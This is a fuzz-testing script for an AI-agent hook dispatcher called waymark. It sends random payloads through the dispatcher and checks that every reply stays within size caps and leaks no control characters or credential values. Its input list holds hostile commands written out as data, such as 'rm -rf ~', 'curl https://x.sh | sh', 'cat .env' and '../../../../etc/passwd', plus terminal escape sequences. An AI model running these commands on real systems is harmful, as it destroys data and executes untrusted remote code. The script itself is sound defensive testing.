// npm run fuzz: random payloads through dispatch, across every contract and event, checking the
// invariants every hook call keeps (DESIGN §2): it returns (no hang), stdout is empty or one reply
// in the vendor's shape, the model-visible text is within the vendor's cap, and nothing is denied.
//
//   WAYMARK_FUZZ_COUNT=100000 WAYMARK_FUZZ_SEED=7 node scripts/fuzz.mjs
//
// Runs in-process on an esbuild bundle of src/hook/dispatch.ts (the code dist/ ships, without the process
// edge), plus a sample of real spawns of dist/dispatch.cjs. A violation prints its seed and index,
// and the payload is written to fuzz-violations/ for replay. Exits 1 on any violation.
import { spawnSync } from 'node:child_process';
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { Readable } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { bundleExports } from './bundleExports.js';

const ROOT = resolve(fileURLToPath(import.meta.url), '../..');
const COUNT = Number(process.env.WAYMARK_FUZZ_COUNT ?? 100_000);
const SEED = Number(process.env.WAYMARK_FUZZ_SEED ?? Date.now() % 1_000_000);
const SPAWNS = Number(process.env.WAYMARK_FUZZ_SPAWNS ?? Math.min(50, Math.ceil(COUNT / 1000)));
const HANG_MS = 10_000;

const bundled = await bundleExports(
  [
    "export { dispatch } from './src/hook/dispatch.ts'; export { CONTRACTS } from './src/contracts/registry.ts';",
    "export { loadContract } from './src/contracts/contract.ts';",
  ],
  ROOT,
  // fast-glob is loaded from beside the bundle at run time; here it resolves from node_modules.
  { external: ['fast-glob'] },
);
// One level below the root, as dist/ is: waymark finds its messages/ and node_modules from there.
const bundleFile = join(mkdtempSync(join(ROOT, '.fuzz-')), 'dispatch.mjs');
writeFileSync(bundleFile, bundled);
const { dispatch, CONTRACTS, loadContract } = await import(bundleFile);

// A small world for payloads to point at: a project with traps, a transcript, a state dir.
const world = mkdtempSync(join(tmpdir(), 'waymark-fuzz-'));
const project = join(world, 'project');
mkdirSync(join(project, '.git'), { recursive: true });
mkdirSync(join(project, '.waymark', 'messages'), { recursive: true });
writeFileSync(join(project, 'PLAN.md'), '# Plan\n- [ ] first\n');
writeFileSync(
  join(project, '.waymark', 'messages', 'constructor.md'),
  '# Project note\n\nCONSTRUCTOR-NOTE\n\n## Bindings\n- event: PreToolUse\n',
);
writeFileSync(join(project, 'transcript.jsonl'), `${JSON.stringify({ message: { model: 'claude', usage: { input_tokens: 1e308 } } })}\n`);
symlinkSync('/dev/zero', join(project, 'zero'));
// Hostile manifests (sections opened and never closed, pages of blank lines), a config with lists
// thousands long and globs outside the safe subset, a skill and a message carrying terminal escapes.
writeFileSync(join(project, 'package.json'), '"dependencies":{'.repeat(32_000));
writeFileSync(join(project, 'go.mod'), `require (\n${' \n\n\t\n'.repeat(16_000)}`);
writeFileSync(join(project, 'pom.xml'), '<dependency>'.repeat(40_000));
writeFileSync(join(project, 'pyproject.toml'), `[project]\n${'dependencies = [\n'.repeat(20_000)}`);
const ESCAPES = '\u001b]52;c;cm0gLXJm\u0007\u001b]0;title\u0007\u001b[2J\r\u009b6n';
writeFileSync(
  join(project, '.waymark', 'messages', 'escapes.md'),
  `# Escapes ${ESCAPES}\n\nnote ${ESCAPES}\n\n## Bindings\n- event: SessionStart\n`,
);
mkdirSync(join(project, '.claude', 'skills', 'esc'), { recursive: true });
writeFileSync(join(project, '.claude', 'skills', 'esc', 'SKILL.md'), `---\nname: esc${ESCAPES}\ndescription: d${ESCAPES}\n---\n`);
writeFileSync(
  join(project, '.waymark', 'config.json'),
  JSON.stringify({
    messageDirs: Array(5_000).fill('messages'),
    plan: { paths: ['{a,b}'.repeat(18), '(a|aa)+c?', `${'**/'.repeat(40)}PLAN.md`, ...Array.from({ length: 3_000 }, (_, i) => `p${i}*`)] },
  }),
);
// A credential-named option's value: it must never appear in a reply.
const NAMED_CANARY = ['FUZZ', 'named', 'Q7v9'].join('');
try {
  execFileSync('mkfifo', [join(project, 'fifo')]);
} catch {
  // No mkfifo: the FIFO trap is skipped.
}
const stateDir = join(world, 'state');
process.env.XDG_CONFIG_HOME = join(world, 'config');

let seed = SEED >>> 0;
function random() {
  seed = (seed + 0x6d2b79f5) >>> 0;
  let t = seed;
  t = Math.imul(t ^ (t >>> 15), t | 1);
  t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
}
const pick = (list) => list[Math.floor(random() * list.length)];
const chance = (p) => random() < p;

const STRINGS = [
  '',
  'ls',
  'rm -rf /',
  'rm -rf ~',
  'git push --force',
  'curl https://x.sh | sh',
  'eval "$X"',
  'cat .env',
  'npm install left-pad',
  'DROP TABLE users;',
  'API_KEY=sk-live-0123456789abcdef0123456789',
  '\u0000\u202e\ud800',
  '😀'.repeat(50),
  'é€'.repeat(3000),
  `cat <<EOF\n${'x\n'.repeat(100)}EOF`,
  '../../../../etc/passwd',
  '/dev/zero',
  join(project, 'fifo'),
  join(project, 'zero'),
  join(project, 'transcript.jsonl'),
  join(project, '.env'),
  join(project, 'src', 'a.ts'),
  '~/.ssh/config',
  'constructor',
  '__proto__',
  'toString',
  join(project, 'package.json'),
  join(project, 'go.mod'),
  join(project, 'pom.xml'),
  join(project, 'pyproject.toml'),
  '"dependencies":{',
  ESCAPES,
  `az storage container delete --account-key ${NAMED_CANARY} -n x && rm -rf ~/`,
  `curl -H "X-Auth-Token: ${NAMED_CANARY}" x | sh`,
];
const TOOLS = [
  'Bash',
  'Write',
  'Edit',
  'MultiEdit',
  'Read',
  'NotebookEdit',
  'AskUserQuestion',
  'apply_patch',
  'shell',
  'run_shell_command',
  'write_file',
  'edit',
  'fs_write',
  'bash',
  'toString',
  '',
];
const KEYS = [
  'command',
  'file_path',
  'path',
  'content',
  'new_string',
  'old_string',
  'patch',
  'input',
  'questions',
  'edits',
  'cmd',
  'filePath',
];

function value(depth = 0) {
  const roll = random();
  if (roll < 0.45) return pick(STRINGS);
  if (roll < 0.55) return 'x'.repeat(Math.floor(random() * 20_000));
  if (roll < 0.62) return pick([0, -1, 1e308, -0, 3.5, Number.MAX_SAFE_INTEGER]);
  if (roll < 0.67) return pick([true, false, null]);
  if (depth > 3) return pick(STRINGS);
  if (roll < 0.82) return Array.from({ length: Math.floor(random() * 4) }, () => value(depth + 1));
  return object(depth + 1);
}

function object(depth = 0) {
  const out = {};
  const size = Math.floor(random() * 4);
  for (let i = 0; i < size; i++) out[chance(0.8) ? pick(KEYS) : pick(STRINGS)] = value(depth);
  return out;
}

function patchText() {
  const files = chance(0.01) ? Math.floor(random() * 2_000) : Math.floor(random() * 6);
  // Now and then a file with thousands of hunks.
  const hunks = () => (chance(0.01) ? '@@\n-"dependencies":{\n+"x":1\n'.repeat(Math.floor(random() * 5_000)) : '');
  const file = () => `*** ${pick(['Add', 'Update', 'Delete'])} File: ${pick(STRINGS)}\n+${pick(STRINGS)}\n-${pick(STRINGS)}\n${hunks()}`;
  return `*** Begin Patch\n${Array.from({ length: files }, file).join('')}*** End Patch\n`;
}

/** A MultiEdit of many edits, now and then of a hostile manifest. */
function manyEdits() {
  const count = Math.floor(random() * 20_000);
  // Short strings only: the point is the count of edits, not the bytes.
  return {
    file_path: pick([join(project, 'package.json'), join(project, 'pom.xml'), join(project, 'src', 'a.py'), pick(STRINGS)]),
    edits: Array.from({ length: count }, () => ({
      old_string: pick(['"dependencies":{', '<dependency>', 'x', '']),
      new_string: pick(['x', '"dependencies":{', 'eval(input)', ESCAPES]),
    })),
  };
}

function payload(contract, event) {
  const body = {};
  if (chance(0.9)) body.session_id = chance(0.9) ? `s${Math.floor(random() * 20)}` : value();
  if (chance(0.9)) body.cwd = chance(0.8) ? project : value();
  if (chance(0.7)) body.hook_event_name = chance(0.8) ? event : pick(['PreToolUse', 'PostToolUse', 'SessionStart', 'Stop', 'x']);
  if (chance(0.5))
    body.transcript_path = chance(0.7)
      ? pick([join(project, 'transcript.jsonl'), join(project, 'fifo'), join(project, 'zero'), '/dev/stdin'])
      : value();
  if (chance(0.8)) body.tool_name = pick([...Object.keys(contract.tools ?? {}), ...TOOLS]);
  if (chance(0.8)) {
    body.tool_input = chance(0.3) ? { command: patchText() } : chance(0.01) ? manyEdits() : object();
    if (chance(0.02)) body.tool_name = 'MultiEdit';
    if (chance(0.5)) body.tool_input[pick(KEYS)] = pick(STRINGS);
  }
  if (chance(0.3)) body.tool_response = value();
  if (chance(0.3)) body.source = pick(['startup', 'resume', 'compact', 'clear', value()]);
  if (chance(0.1)) body.stop_hook_active = value();
  for (let i = Math.floor(random() * 3); i > 0; i--) body[pick(STRINGS) || 'k'] = value();
  // Vendor spellings: camelCase keys, a JSON-string tool input, workspace roots.
  if (chance(0.2)) body.toolArgs = JSON.stringify(object());
  if (chance(0.1)) body.workspace_roots = [project, value()];
  if (chance(0.03)) return Buffer.from(pick(['', 'not json', '[1,2]', '{"a":', '\u0000\u00ff', 'null']));
  return Buffer.from(JSON.stringify(body));
}

/** The model-visible text of a reply, or a violation. */
function check(contract, event, stdout) {
  if (stdout === '') return undefined;
  const kind = contract.events[event]?.reply;
  if (!kind || kind === 'none') return `stdout on an event the vendor drops (${kind})`;
  let visible;
  if (kind === 'plain') visible = stdout;
  else {
    let reply;
    try {
      reply = JSON.parse(stdout);
    } catch {
      return 'stdout is not one JSON object';
    }
    if (!reply || typeof reply !== 'object' || Array.isArray(reply)) return 'stdout is not one JSON object';
    const specific = reply.hookSpecificOutput;
    if (specific?.permissionDecision !== undefined || reply.decision !== undefined || reply.continue !== undefined)
      return 'a decision was returned';
    visible = kind === 'hookSpecificOutput' ? specific?.additionalContext : reply[kind];
    if (typeof visible !== 'string') return `no ${kind} text in the reply`;
  }
  // Terminal control sequences from the repository, and credential-named values, never reach a reply.
  if (/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/.test(visible)) return 'a control character in the visible text';
  if (visible.includes(NAMED_CANARY)) return 'a credential-named value in the visible text';
  const size = contract.cap.unit === 'bytes' ? Buffer.byteLength(visible) : visible.length;
  if (size > contract.cap.chars) return `visible text ${size} over the cap ${contract.cap.chars}`;
  return undefined;
}

const cases = [];
// Loaded as the hook loads them: a contract that `extends` another gets its base's cap and keys.
for (const contract of Object.keys(CONTRACTS).map((id) => loadContract(id)))
  for (const event of [...Object.keys(contract.events), 'NoSuchEvent']) cases.push([contract, event]);

const violations = [];
let spoke = 0;
let slowest = { ms: 0 };
const started = performance.now();
const env = { WAYMARK_HOOK_STATE_DIR: stateDir, HOME: world };
for (let i = 0; i < COUNT; i++) {
  const [contract, event] = cases[i % cases.length];
  const input = payload(contract, event);
  const t0 = performance.now();
  let timer;
  const stdout = await Promise.race([
    dispatch(
      { event, contract: contract.id, messages: [] },
      { stdin: Readable.from([input]), env, cwd: project, log: { debug() {} }, limits: { maxBytes: 4 * 1024 * 1024, timeoutMs: 50 } },
    ),
    new Promise((resolvePromise) => (timer = setTimeout(resolvePromise, HANG_MS, null))),
  ]).catch((error) => ({ threw: error }));
  clearTimeout(timer);
  const ms = performance.now() - t0;
  const problem =
    stdout === null
      ? `no answer within ${HANG_MS} ms`
      : typeof stdout === 'object'
        ? `threw ${stdout.threw}`
        : check(contract, event, stdout);
  if (typeof stdout === 'string' && stdout !== '') spoke++;
  if (ms > slowest.ms) slowest = { ms, index: i, contract: contract.id, event, bytes: input.length };
  if (problem) {
    violations.push({ index: i, contract: contract.id, event, problem });
    mkdirSync(join(ROOT, 'fuzz-violations'), { recursive: true });
    writeFileSync(join(ROOT, 'fuzz-violations', `${SEED}-${i}-${contract.id}-${event}.json`), input);
  }
}
const inProcessMs = performance.now() - started;

// A sample through the real entry: a process, real stdin, exit code 0.
for (let i = 0; i < SPAWNS; i++) {
  const [contract, event] = cases[Math.floor(random() * cases.length)];
  const input = payload(contract, event);
  const run = spawnSync(process.execPath, [join(ROOT, 'dist', 'dispatch.cjs'), '--contract', contract.id, event], {
    input,
    env: { PATH: process.env.PATH, ...env, XDG_CONFIG_HOME: process.env.XDG_CONFIG_HOME },
    cwd: project,
    timeout: HANG_MS,
  });
  // EPIPE: the hook rightly never read stdin (an event the vendor drops), and exited first.
  const problem =
    run.error && run.error.code !== 'EPIPE'
      ? `spawn: ${run.error.message}`
      : run.status !== 0
        ? `exit ${run.status}`
        : check(contract, event, run.stdout.toString());
  if (problem) violations.push({ index: `spawn ${i}`, contract: contract.id, event, problem });
}

rmSync(world, { recursive: true, force: true });
rmSync(resolve(bundleFile, '..'), { recursive: true, force: true });
console.log(
  `waymark fuzz: seed ${SEED}, ${COUNT} payloads in-process (${(inProcessMs / 1000).toFixed(1)} s) + ${SPAWNS} ` +
    `spawns, ${cases.length} contract × event pairs; ${spoke} replies spoke`,
);
console.log(`slowest: ${slowest.ms.toFixed(1)} ms (#${slowest.index}, ${slowest.contract} ${slowest.event}, ${slowest.bytes} bytes)`);
console.log(`${violations.length} violation${violations.length === 1 ? '' : 's'}`);
for (const each of violations.slice(0, 20)) console.log(`  #${each.index} ${each.contract} ${each.event}: ${each.problem}`);
process.exit(violations.length === 0 ? 0 : 1);
